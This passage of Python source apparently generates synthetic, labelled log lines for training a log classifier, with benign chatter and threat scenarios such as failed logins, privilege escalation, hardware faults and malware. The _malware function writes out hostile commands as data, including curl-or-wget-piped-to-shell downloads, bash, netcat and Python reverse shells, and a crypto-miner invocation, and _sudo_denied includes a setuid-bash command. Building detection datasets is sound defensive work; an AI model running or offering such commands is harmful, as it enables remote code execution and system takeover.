        3840,
        "The data couldn’t be read because it isn’t in the correct format.",
    ),
    ("NSOSStatusErrorDomain", -25300, "The specified item could not be found in the keychain."),
    ("NSPOSIXErrorDomain", 2, "No such file or directory"),
    ("CKErrorDomain", 9, "Not Authenticated"),
    ("com.apple.accounts", 7, "The account is not signed in"),
    ("kCFErrorDomainCFNetwork", 310, "There was a problem communicating with the proxy"),
)
CHROMIUM_NOISE = (
    ("gl_surface_presentation_helper.cc", "GetVSyncParametersIfAvailable() failed"),
    ("object_proxy.cc", "Failed to call method: org.freedesktop.DBus.Properties.Get"),
    ("bus.cc", "Failed to connect to the bus: Could not parse server address"),
    ("gcm_store_impl.cc", "Failed to open database: Invalid argument, will recreate"),
    ("registration_request.cc", "Registration response error message: DEPRECATED_ENDPOINT"),
    ("ssl_client_socket_impl.cc", "handshake failed; returned -1, SSL error code 1"),
    ("shared_image_manager.cc", "ProduceSkia: Trying to Produce a Skia representation"),
)


def _desktop_chatter(d: _Draw) -> str:
    """Desktop and laptop applications and their helper daemons (macOS and Linux desktops):
    handled errors their frameworks log as routine noise, with error domains and codes,
    Chromium-style ``ERROR:file.cc`` lines, toolkit warnings and retried client requests."""
    domain, code, reason = d.pick(NS_ERRORS)
    source, text = d.pick(CHROMIUM_NOISE)
    t = d.tick()
    chromium = f"[{d.pid()}:{d.pid()}:{t:%m%d/%H%M%S}.{_n(d, 100, 999)}:ERROR:{source}"
    action = d.pick(
        ("Failed to fetch preferences", "Query finished with error", "Sync skipped", "Reload")
    )
    module = d.pick(("canberra-gtk-module", "pk-gtk-module"))
    shared = (
        f"{chromium}({_n(d, 50, 900)})] {text}",
        f"[C{_n(d, 1, 400)}] connection {d.pick(('cancelled', 'reset by peer', 'closed'))} "
        f"(error {_n(d, 1, 60)}), retrying request {_n(d, 1, 9)} of 3",
        f"Font {d.pick(('Helvetica Neue', 'Cantarell', 'Menlo'))} has an invalid name table "
        f"(error {_n(d, 1, 40)}); using fallback",
        f"Unable to refresh {d.pick(('contacts', 'calendar', 'mailbox INBOX'))}: "
        f"not signed in, error {_n(d, 1, 500)}; will try again later",
    )
    if d.rng.random() < 0.3:
        linux = (
            "Window manager warning: Buggy client sent a _NET_ACTIVE_WINDOW message with a "
            "timestamp of 0",
            f'Gtk-WARNING **: Failed to load module "{module}"',
        )
        return d.syslog(d.pick(LINUX_DESKTOP_APPS), d.pick((*linux, *shared)))
    mac = (
        f'{action}: Error Domain={domain} Code={code} "{reason}" '
        f"UserInfo={{NSLocalizedDescription={reason}}}",
        f"Plug-in {d.pick(('Flash', 'QuickLook', 'Grammarly', 'Zotero'))}.bundle failed to "
        "load: incompatible architecture, skipping",
        f"assertion failed: {_n(d, 15, 21)}G{_n(d, 10, 99)}: libxpc.dylib + {_n(d)} "
        f"[{d.hexs(8).upper()}-{d.hexs(4).upper()}]: 0x{_n(d, 1, 99)}",
        f"XPC connection to com.apple.{d.pick(('iCloudHelper', 'tccd', 'lsd'))} "
        "interrupted, reconnecting",
        f"sandbox extension for {d.pick(('Downloads', 'Desktop', 'Documents'))} could not be "
        "issued: operation not permitted (handled)",
    )
    return d.syslog(d.pick(MAC_APPS), d.pick((*mac, *shared)))


# --- malicious and faulty scenarios ------------------------------------------------------


def _ssh_failed(d: _Draw) -> str:
    user = d.pick(USERS)
    ip, port = d.public_ip(), d.port()
    return d.pick(
        (
            d.syslog("sshd", f"Failed password for {user} from {ip} port {port} ssh2"),
            d.syslog("sshd", f"Failed password for invalid user {user} from {ip} port {port} ssh2"),
            d.syslog("sshd", f"Invalid user {user} from {ip} port {port}"),
            d.syslog("sshd", f"Failed publickey for {user} from {ip} port {port} ssh2"),
            d.syslog(
                "sshd",
                "pam_unix(sshd:auth): authentication failure; logname= "
                f"uid=0 euid=0 tty=ssh ruser= rhost={ip}  user={user}",
            ),
            d.syslog(
                "sshd",
                f"error: maximum authentication attempts exceeded for {user}"
                f" from {ip} port {port} ssh2 [preauth]",
            ),
            d.syslog(
                "login", f"FAILED LOGIN (1) on '/dev/tty1' FOR '{user}', Authentication failure"
            ),
        )
    )


def _web_auth_failure(d: _Draw) -> str:
    return d.json_line(
        "warn",
        f"login failed for user {d.pick(USERS)} from {d.public_ip()}: invalid credentials",
        "auth-service",
    )


def _sudo_denied(d: _Draw) -> str:
    user = d.pick(USERS)
    return d.pick(
        (
            d.syslog(
                "sudo",
                f"{user} : user NOT in sudoers ; TTY=pts/{d.rng.randint(0, 9)}"
                f" ; PWD=/home/{user} ; USER=root ; COMMAND=/bin/bash",
                pid=False,
            ),
            d.syslog(
                "sudo",
                f"{user} : {d.rng.randint(1, 3)} incorrect password attempts"
                f" ; TTY=pts/{d.rng.randint(0, 9)} ; PWD=/home/{user} ; "
                "USER=root ; COMMAND=/usr/bin/su -",
                pid=False,
            ),
            d.syslog("su", f"FAILED SU (to root) {user} on pts/{d.rng.randint(0, 9)}"),
            d.syslog(
                "kernel",
                f"[{d.rng.uniform(1, 9999):.6f}] {d.pick(PROGRAMS_OK)}"
                f"[{d.pid()}]: attempted setuid(0) from uid "
                f"{d.rng.randint(1000, 1010)} blocked",
                pid=False,
            ),
            d.syslog(
                "sudo",
                f"{user} : TTY=pts/{d.rng.randint(0, 9)} ; PWD=/tmp ; "
                "USER=root ; COMMAND=/usr/bin/chmod u+s /bin/bash",
                pid=False,
            ),
            d.syslog(
                "polkitd",
                f"Operator of unix-session:{d.rng.randint(1, 9)} FAILED to "
                "authenticate to gain authorization for action "
                "org.freedesktop.policykit.exec",
            ),
        )
    )


def _account_change(d: _Draw) -> str:
    user = d.pick(USERS) + str(d.rng.randint(0, 99))
    uid = d.rng.randint(1001, 1999)
    group = d.pick(("sudo", "wheel", "docker", "adm", "developers"))
    return d.pick(
        (
            d.syslog(
                "useradd",
                f"new user: name={user}, UID={uid}, GID={uid}, "
                f"home=/home/{user}, shell=/bin/bash, from=/dev/pts/0",
            ),
            d.syslog("groupadd", f"new group: name={user}, GID={uid}"),
            d.syslog("usermod", f"add '{user}' to group '{group}'"),
            d.syslog("userdel", f"delete user '{user}'"),
            d.syslog("passwd", f"pam_unix(passwd:chauthtok): password changed for {user}"),
            d.syslog("chage", f"changed password expiry for {user}"),
            d.syslog("useradd", f"add '{user}' to shadow group '{group}'"),
        )
    )


_SIGNATURES = (
    "Php.Webshell.C99",
    "Unix.Trojan.Mirai-7100807-0",
    "Multios.Coinminer.Miner-6781728-2",
)


def _web_attack(d: _Draw) -> str:
    path = attack_path(d.rng)
    status = d.rng.choice((400, 403, 404, 200, 500))
    agent = d.pick(SCANNER_AGENTS) if d.rng.random() < 0.5 else d.pick(USER_AGENTS)
    return d.access(d.public_ip(), d.pick(("GET", "GET", "POST")), path, status, agent)


def _ssh_breakin(d: _Draw) -> str:
    ip = d.public_ip()
    return d.pick(
        (
            d.syslog(
                "sshd",
                f"reverse mapping checking getaddrinfo for "
                f"host-{ip.replace('.', '-')}.example.net [{ip}] failed - "
                "POSSIBLE BREAK-IN ATTEMPT!",
            ),
            d.syslog("sshd", f"Did not receive identification string from {ip} port {d.port()}"),
            d.syslog(
                "sshd",
                f"Bad protocol version identification 'GET / HTTP/1.1' from {ip} port {d.port()}",
            ),
            d.syslog(
                "kernel",
                f"[{d.rng.uniform(1, 9999):.6f}] possible SYN flooding on "
                f"port {d.rng.choice((22, 80, 443))}. Sending cookies.",
                pid=False,
            ),
            d.syslog(
                "snort",
                f"[1:2001219:20] ET SCAN Potential SSH Scan [Classification:"
                f" Attempted Information Leak] {{TCP}} {ip}:{d.port()} -> "
                f"{d.private_ip()}:22",
            ),
        )
    )


def _malware(d: _Draw) -> str:
    ip, user = d.public_ip(), d.pick(("www-data", "nobody", "apache", "tomcat", "jenkins"))
    payload = d.pick(
        (
            f"curl -s http://{ip}/x.sh | bash",
            f"wget -qO- http://{ip}:8080/i | sh",
            f"bash -i >& /dev/tcp/{ip}/4444 0>&1",
            f"nc -e /bin/sh {ip} {d.rng.choice((4444, 1337, 9001))}",
            f"python3 -c 'import socket,subprocess,os;s=socket.socket();"
            f's.connect(("{ip}",4444))\'',
            f"echo {d.hexs(24)}== | base64 -d | bash",
            f"/tmp/.x/xmrig -o stratum+tcp://pool.minexmr.com:4444 -u {d.hexs(40)}",
        )
    )
    return d.pick(
        (
            d.syslog(
                "sudo",
                f"{user} : TTY=unknown ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh -c {payload}",
                pid=False,
            ),
            d.syslog("CRON", f"({user}) CMD ({payload})"),
            d.syslog("auditd", f'type=EXECVE argc=3 a0="/bin/sh" a1="-c" a2="{payload}"'),
            d.syslog(
                "kernel",
                f"[{d.rng.uniform(1, 9999):.6f}] xmrig[{d.pid()}]: "
                "huge pages enabled, mining on pool.supportxmr.com:443",
                pid=False,
            ),
            d.syslog(
                "clamd",
                f"/var/www/uploads/{d.hexs(8)}.php: {d.pick(_SIGNATURES)} FOUND",
            ),
            d.json_line(
                "error",
                f"process {d.pick(('kdevtmpfsi', 'kinsing', '.sshd', 'xmrig'))}"
                f" spawned by {user} using 99% CPU from /tmp",
                "edr-agent",
            ),
        )
    )


def _hardware(d: _Draw) -> str:
    cpu = d.rng.randint(0, 63)
    return d.pick(
        (
            d.bgl("KERNEL", "FATAL", "data TLB error interrupt"),
            d.bgl("KERNEL", "FATAL", "data storage interrupt"),
            d.bgl("KERNEL", "FATAL", "machine check interrupt"),
            d.bgl("KERNEL", "FATAL", f"L3 ecc control register: {d.hexs(8)}"),
            d.bgl("MMCS", "FATAL", "ddr: excessive soft failures, consider replacing the card"),
            d.syslog(
                "kernel",
                f"[{d.rng.uniform(1, 9999):.6f}] mce: [Hardware Error]: CPU "
                f"{cpu}: Machine Check: 0 Bank 5: be{d.hexs(14)}",
                pid=False,
            ),
            d.syslog(
                "kernel",
                f"[{d.rng.uniform(1, 9999):.6f}] EDAC MC0: 1 CE memory read "
                f"error on CPU_SrcID#0_Ha#0_Chan#{d.rng.randint(0, 3)}_DIMM#0",
                pid=False,
            ),
            d.syslog(
                "kernel",
                f"[{d.rng.uniform(1, 9999):.6f}] CPU{cpu}: Core temperature "
                "above threshold, cpu clock throttled",
                pid=False,
            ),
            d.syslog(
                "ipmievd",
                f"Fan {d.rng.randint(1, 8)} Lower Critical going low "
                f"Reading {d.rng.randint(0, 300)} < Threshold 600 RPM",
            ),
        )
    )


def _storage(d: _Draw) -> str:
    disk, sector = d.pick(DISKS), d.rng.randint(1000, 999999999)
    return d.pick(
        (
            d.syslog(
                "kernel",
                f"[{d.rng.uniform(1, 9999):.6f}] blk_update_request: I/O "
                f"error, dev {disk}, sector {sector}",
                pid=False,
            ),
            d.syslog(
                "kernel",
                f"[{d.rng.uniform(1, 9999):.6f}] EXT4-fs error (device "
                f"{disk}1): ext4_find_entry:1455: inode #{sector}: comm "
                "nginx: reading directory lblock 0",
                pid=False,
            ),
            d.syslog(
                "kernel",
                f"[{d.rng.uniform(1, 9999):.6f}] EXT4-fs ({disk}1): "
                "Remounting filesystem read-only",
                pid=False,
            ),
            d.syslog(
                "smartd",
                f"Device: /dev/{disk} [SAT], {d.rng.randint(1, 90)} Currently"
                " unreadable (pending) sectors",
            ),
            d.syslog("mdadm", "DegradedArray event detected on md device /dev/md0"),
            d.app("ERROR", "java.io.IOException: No space left on device"),
            d.json_line(
                "error",
                f"write /var/lib/docker/overlay2/{d.hexs(12)}: no space left on device",
                "dockerd",
            ),
            d.bgl(
                "KERNEL",
                "FATAL",
                f"Lustre mount FAILED : bglio{d.rng.randint(1, 60)} : block_id : location",
            ),
            d.syslog(
                "kernel",
                f"[{d.rng.uniform(1, 9999):.6f}] XFS ({disk}): metadata "
                'I/O error: block 0x{} ("xfs_trans_read_buf_map") '
                "error 5".format(d.hexs(6)),
                pid=False,
            ),
        )
    )


def _network(d: _Draw) -> str:
    ip = d.private_ip()
    return d.pick(
        (
            d.syslog(
                "kernel",
                f"[{d.rng.uniform(1, 9999):.6f}] e1000e 0000:00:19.0 "
                f"{d.pick(IFACES)}: NIC Link is Down",
                pid=False,
            ),
            d.syslog(
                "kernel",
                f"[{d.rng.uniform(1, 9999):.6f}] {d.pick(IFACES)}: transmit queue 0 timed out",
                pid=False,
            ),
            d.syslog("NetworkManager", f"<warn> dhcp4 ({d.pick(IFACES)}): request timed out"),
            d.syslog(
                "systemd-resolved",
                f"Transaction {d.rng.randint(1, 65535)} for "
                "<api.internal.example IN A> failed: timeout",
            ),
            d.app(
                "ERROR",
                f"java.net.ConnectException: Connection refused (Connection "
                f"refused) to {ip}:{d.rng.choice((5432, 9092, 6379, 443))}",
            ),
            d.app(
                "WARN",
                f"Connection to node {d.rng.randint(0, 5)} ({ip}:9092) could not"
                " be established. Broker may not be available.",
            ),
            d.json_line(
                "error", f"dial tcp {ip}:{d.rng.choice((443, 8080))}: i/o timeout", "api-gateway"
            ),
            d.syslog(
                "nginx",
                f"upstream timed out (110: Connection timed out) while "
                f"connecting to upstream, upstream: http://{ip}:8080/",
            ),
            d.bgl(
                "KERNEL",
                "FATAL",
                "Error receiving packet on tree network, expecting "
                f"type 57 instead of type {d.rng.randint(0, 9)}",
            ),
            d.syslog("bgpd", f"%ADJCHANGE: neighbor {ip} Down BGP Notification sent"),
        )
    )


def _service_failure(d: _Draw) -> str:
    svc, pid = d.pick(SERVICES), d.pid()
    return d.pick(
        (
            d.syslog(
                "systemd",
                f"{svc}.service: Main process exited, code=killed, status=9/KILL",
                pid=False,
            ),
            d.syslog("systemd", f"{svc}.service: Failed with result 'exit-code'.", pid=False),
            d.syslog("systemd", f"{svc}.service: Start request repeated too quickly.", pid=False),
            d.syslog(
                "kernel",
                f"[{d.rng.uniform(1, 9999):.6f}] Out of memory: Killed "
                f"process {pid} ({d.pick(PROGRAMS_OK)}) total-vm:"
                f"{d.rng.randint(10**5, 10**7)}kB",
                pid=False,
            ),
            d.syslog(
                "kernel",
                f"[{d.rng.uniform(1, 9999):.6f}] {d.pick(PROGRAMS_OK)}"
                f"[{pid}]: segfault at {d.hexs(6)} ip {d.hexs(12)} sp "
                f"{d.hexs(12)} error 4 in libc.so.6",
                pid=False,
            ),
            d.app(
                "ERROR",
                "java.lang.NullPointerException: Cannot invoke "
                '"String.length()" because "name" is null',
            ),
            d.app("FATAL", "java.lang.OutOfMemoryError: Java heap space"),
            d.json_line(
                "error", "Traceback (most recent call last): KeyError: 'user_id'", "payments-api"
            ),
            d.json_line(
                "fatal",
                "panic: runtime error: invalid memory address or nil pointer dereference",
                "api-gateway",
            ),
            d.bgl(
                "KERNEL",
                "FATAL",
                "rts: kernel terminated for reason 1004rts: bad "
                "message header: invalid cpu, type=42315, cpu=105",
            ),
            d.bgl(
                "APP",
                "FATAL",
                "ciod: Error reading message prefix after LOAD_MESSAGE "
                f"on CioStream socket to 172.16.96.116:{d.port()}",
            ),
            d.syslog(
                "dockerd",
                f"container {d.hexs(12)} restarting: back-off 5m0s restarting failed container",
            ),
        )
    )


SCENARIOS: dict[str, tuple[tuple[Scenario, float], ...]] = {
    "benign": (
        (_ssh_accepted, 2),
        (_ssh_session, 1.5),
        (_cron, 1.5),
        (_sudo_ok, 1.5),
        (_web_ok, 7),
        (_systemd_ok, 1.5),
        (_kernel_ok, 1),
        (_app_ok, 1.5),
        (_bgl_ok, 1.5),
        (_useradd_ok_lookalike, 0.3),
        (_app_chatter, 4),
        (_kernel_chatter, 2.5),
        (_daemon_chatter, 3),
        (_apache_notice, 1.5),
        (_mobile_chatter, 2.5),
        (_desktop_chatter, 2.5),
        (_numeric_status, 2),
    ),
    "auth_failure": ((_ssh_failed, 4), (_web_auth_failure, 1)),
    "privilege_escalation": ((_sudo_denied, 1),),
    "account_change": ((_account_change, 1),),
    "intrusion_attempt": ((_web_attack, 3), (_ssh_breakin, 1.5)),
    "malware": ((_malware, 1),),
    "hardware_fault": ((_hardware, 1),),
    "storage": ((_storage, 1),),
    "network": ((_network, 1),),
    "service_failure": ((_service_failure, 1),),
}
if set(SCENARIOS) != set(LABELS):  # a label added to the taxonomy needs scenarios here
    raise RuntimeError(
        f"generator scenarios do not cover the taxonomy: {set(LABELS) ^ set(SCENARIOS)}"
    )


def generate(count: int, seed: int = 13, benign_share: float = 0.4) -> Iterator[GeneratedLine]:
    """``count`` labelled lines; ``benign_share`` of them benign, the rest spread evenly."""
    rng = random.Random(seed)
    draw = _Draw(rng, datetime(2024, 3, 1, tzinfo=UTC) + timedelta(days=rng.randint(0, 200)))
    threats = [label for label in LABELS if label != "benign"]
    for _ in range(count):
        label = "benign" if rng.random() < benign_share else rng.choice(threats)
        scenarios = SCENARIOS[label]
        scenario = rng.choices([s for s, _ in scenarios], [w for _, w in scenarios])[0]
        yield GeneratedLine(scenario(draw), label, scenario.__name__.lstrip("_"))
